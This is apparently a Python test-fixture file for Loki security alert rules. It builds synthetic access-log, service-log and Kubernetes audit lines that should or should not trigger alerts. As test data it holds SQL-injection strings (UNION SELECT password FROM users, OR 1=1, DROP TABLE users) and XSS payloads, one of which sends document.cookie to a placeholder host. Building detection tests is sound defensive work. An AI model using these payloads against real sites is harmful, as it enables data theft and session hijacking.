"""Log lines that make an alert of Loki's speak, and lines like them that must not: as the collectors send them."""

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

# Minutes from the beginning of a case: nothing but ordinary lines so far; what is loud comes then; and is looked for.
QUIET, LOUD, LOOK = 8.0, 8.5, 12.0


@dataclass(frozen=True, slots=True)
class Line:
    """``count`` times, spread over a minute. ``attributes`` become structured metadata."""

    body: str
    component: str
    count: int = 1
    severity: str = "INFO"
    attributes: Mapping[str, str | int] = field(default_factory=dict)


@dataclass(frozen=True, slots=True)
class Case:
    """``usual`` are sent each minute all the time, ``loud`` once. With ``fires`` the alert speaks at LOOK, not before.

    ``stops``: minute in which the usual lines end; for what is missing.
    """

    name: str
    bundle: str
    alert: str
    usual: Sequence[Line]
    loud: Sequence[Line] = ()
    fires: bool = True
    stops: float = LOOK
    look: float = LOOK


def structured(component: str, message: str, count: int = 1, level: str = "INFO", **fields: str) -> Line:
    """A line of the contract; its fields are attributes too, as the collector makes them."""
    body = json.dumps({"timestamp": "t", "level": level, "service": component, "message": message, **fields})
    return Line(body, component, count, level, fields)


def request(
    target: str, count: int = 1, status: int = 200, client: str = "203.0.113.7", component: str = "haproxy"
) -> Line:
    """A line of an access log."""
    body = (
        f'{client} - - [21/Nov/2026:12:00:00 +0000] "GET {target} HTTP/1.1" {status} 157 "-" "Mozilla/5.0 (+http://b)"'
    )
    path, _, query = target.partition("?")
    attributes: dict[str, str | int] = {
        "client.address": client,
        "url.path": path,
        "http.response.status_code": status,
        **({"url.query": query} if query else {}),
    }
    return Line(body, component, count, "ERROR" if status >= 500 else "INFO", attributes)


def audit(verb: str, resource: str, user: str, count: int = 1, code: int = 201, **more: Any) -> Line:
    """A line of the Kubernetes API's audit log."""
    body = {
        "kind": "Event",
        "verb": verb,
        "user": {"username": user},
        "objectRef": {"resource": resource, "name": "x"},
        "responseStatus": {"code": code},
        **more,
    }
    return Line(json.dumps(body, separators=(",", ":")), "kubernetes-audit", count)


ALCHEMORSEL, ORDERS, AUDIT = "logs-alchemorsel", "logs-order-processor", "audit"
PERSON = "arn:aws:sts::123456789012:assumed-role/Engineer/jane"
ADMINISTRATOR: dict[str, Any] = {"requestObject": {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}}
API = structured("api", "served", count=20)
VISIT = request("/recipes/7?q=soup+of+the+day", count=20)
# Words that only look like an attack: people search for them, and services log their SQL.
HARMLESS = [
    request("/search?q=union+jack+cake+select", count=10),
    request("/search?q=rock%20%27n%27%20roll%20and%20drop%20scones%20table", count=10),
    request("/recipes/description-of-a-sleepover(10)", count=10),
    request("/articles/javascript-for-cooks?ref=onload", count=10),
]
ORDER = structured("order-service", "SELECT id FROM orders UNION SELECT id FROM archive WHERE a = 'x' OR b = 'y'", 20)
LOGIN = structured("user-service", "login", count=10, action="user_login", user="jane")


def failing(user: str, count: int) -> Line:
    return structured("user-service", "wrong password", count, "WARN", action="user_login", user=user)


def injected(target: str, count: int = 8) -> Line:
    return structured("order-service", "request", count, path=target)


CASES = (
    Case("errors burst", ALCHEMORSEL, "LogErrorBurst", [API], [structured("api", "it broke", 60, "ERROR")]),
    Case("few errors", ALCHEMORSEL, "LogErrorBurst", [API], [structured("api", "it broke", 20, "ERROR")], fires=False),
    Case(
        "many errors of a loud service",
        ALCHEMORSEL,
        "LogErrorBurst",
        [structured("api", "served", count=120)],
        [structured("api", "it broke", 40, "ERROR")],
        fires=False,
    ),
    Case(
        "one address guesses",
        ALCHEMORSEL,
        "LoginFailuresFromOneAddress",
        [VISIT, request("/api/v1/auth/login", 5)],
        [request("/api/v1/auth/login", 30, status=429)],
    ),
    Case(
        "many people mistype",
        ALCHEMORSEL,
        "LoginFailuresFromOneAddress",
        [VISIT],
        [request("/api/v1/auth/login", 3, status=401, client=f"198.51.100.{n}") for n in range(20)],
        fires=False,
    ),
    Case(
        "one address opens many accounts",
        ALCHEMORSEL,
        "RateLimitExceededByOneAddress",
        [VISIT, request("/api/v1/auth/register", 3, client="198.51.100.9")],
        [request("/api/v1/auth/register", 20)],
    ),
    Case(
        "one address ignores what the default limit refuses",
        ALCHEMORSEL,
        "RateLimitExceededByOneAddress",
        [VISIT],
        [request("/recipes/7", 320, status=429)],
    ),
    Case(
        "many people register, and one reads a lot",
        ALCHEMORSEL,
        "RateLimitExceededByOneAddress",
        [VISIT],
        [
            *(request("/api/v1/auth/register", 3, client=f"198.51.100.{n}") for n in range(20)),
            request("/recipes/429", 320),
        ],
        fires=False,
    ),
    Case("one account is tried", ORDERS, "LoginFailuresOfOneAccount", [LOGIN], [failing("jane", 30)]),
    Case(
        "many accounts mistype",
        ORDERS,
        "LoginFailuresOfOneAccount",
        [LOGIN],
        [failing(f"user-{n}", 2) for n in range(20)],
        fires=False,
    ),
    *(
        Case(f"SQL in a request: {target}", ALCHEMORSEL, "SqlInjectionAttempts", [VISIT], [request(target, 8)])
        for target in (
            "/search?q=1%20UNION%20ALL%20SELECT%20password%20FROM%20users",
            "/search?q=1/**/union/**/select/**/1",
            "/recipes?id=1'+or+'1'%3D'1",
            "/recipes?id=1%27%20OR%201=1--",
            "/recipes?id=1;DROP%20TABLE%20users",
            "/recipes?id=1%20AND%20SLEEP(5)",
        )
    ),
    Case("harmless words", ALCHEMORSEL, "SqlInjectionAttempts", [VISIT], HARMLESS, fires=False),
    Case("its own SQL", ORDERS, "SqlInjectionAttempts", [ORDER], [ORDER], fires=False),
    Case("SQL in a field", ORDERS, "SqlInjectionAttempts", [ORDER], [injected("/o?id=1%27%20or%201%3D1")]),
    Case(
        "one probe", ALCHEMORSEL, "SqlInjectionAttempts", [VISIT], [request("/r?id=1%20AND%20SLEEP(5)", 4)], fires=False
    ),
    *(
        Case(
            f"a script in a request: {target}", ALCHEMORSEL, "CrossSiteScriptingAttempts", [VISIT], [request(target, 8)]
        )
        for target in (
            "/search?q=<script>alert(1)</script>",
            "/search?q=%3Cscript%20src%3D//x%3E",
            "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/go?to=javascript:alert(1)",
            "/search?q=x%22;fetch('//x/'%2bdocument.cookie)",
        )
    ),
    Case("harmless words", ALCHEMORSEL, "CrossSiteScriptingAttempts", [VISIT], HARMLESS, fires=False),
    Case("a script in a field", ORDERS, "CrossSiteScriptingAttempts", [ORDER], [injected("/o?q=\\u003cscript")]),
    Case(
        "a library writes past the logger",
        ALCHEMORSEL,
        "MalformedStructuredLogs",
        [API],
        [Line("plain text", "api", 60, attributes={"log.malformed": "not-json"})],
    ),
    Case(
        "a stack trace",
        ALCHEMORSEL,
        "MalformedStructuredLogs",
        [API],
        [Line("plain text", "api", 9, attributes={"log.malformed": "not-json"})],
        fires=False,
    ),
    Case("a service falls silent", ALCHEMORSEL, "LogsMissing", [API], stops=8, look=24),
    Case(
        "a service goes on", ALCHEMORSEL, "LogsMissing", [structured("api", "served")], fires=False, stops=24, look=24
    ),
    Case(
        "an administrator is made",
        AUDIT,
        "AuditAdministratorMade",
        [
            audit(
                "create",
                "clusterrolebindings",
                "system:serviceaccount:kube-system:clusterrole-aggregation",
                **ADMINISTRATOR,
            )
        ],
        [audit("create", "clusterrolebindings", PERSON, **ADMINISTRATOR)],
    ),
    Case(
        "somebody tries and may not",
        AUDIT,
        "AuditAdministratorMade",
        [],
        [audit("create", "clusterrolebindings", PERSON, code=403, **ADMINISTRATOR)],
        fires=False,
    ),
    Case(
        "a webhook changes",
        AUDIT,
        "AuditAdmissionChanged",
        [audit("get", "validatingwebhookconfigurations", PERSON, code=200)],
        [audit("patch", "validatingwebhookconfigurations", PERSON, code=200)],
    ),
    Case(
        "a controller's webhook changes",
        AUDIT,
        "AuditAdmissionChanged",
        [],
        [audit("patch", "mutatingwebhookconfigurations", "eks:vpc-resource-controller", code=200)],
        fires=False,
    ),
    Case(
        "somebody is impersonated",
        AUDIT,
        "AuditAccountImpersonated",
        [audit("list", "pods", PERSON, code=200)],
        [audit("list", "pods", PERSON, code=200, impersonatedUser={"username": "root"})],
    ),
    Case(
        "impersonation is refused",
        AUDIT,
        "AuditAccountImpersonated",
        [],
        [audit("list", "pods", PERSON, code=403, impersonatedUser={"username": "root"})],
        fires=False,
    ),
    Case(
        "much is deleted",
        AUDIT,
        "AuditDeletionBurst",
        [audit("delete", "deployments", PERSON, code=200)],
        [audit("delete", "persistentvolumeclaims", PERSON, 30, code=200)],
    ),
    Case(
        "pods are deleted",
        AUDIT,
        "AuditDeletionBurst",
        [],
        [audit("delete", "pods", PERSON, 30, code=200)],
        fires=False,
    ),
)
